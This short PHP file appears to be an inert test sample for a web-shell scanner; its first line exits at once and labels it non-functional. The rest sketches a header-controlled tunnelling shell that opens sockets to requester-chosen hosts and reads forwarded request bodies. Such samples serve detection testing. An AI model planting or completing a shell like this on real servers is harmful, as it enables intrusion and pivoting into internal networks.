<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
session_start();
$cmd = $_SERVER['HTTP_X_CMD'];
if ($cmd == 'CONNECT') { $s = fsockopen($_SERVER['HTTP_X_TARGET'], (int)$_SERVER['HTTP_X_PORT']); $_SESSION['run'] = true; header('X-STATUS: OK'); }
elseif ($cmd == 'DISCONNECT') { session_destroy(); }
elseif ($cmd == 'FORWARD') { $in = file_get_contents('php://input'); }
elseif ($cmd == 'READ') { }
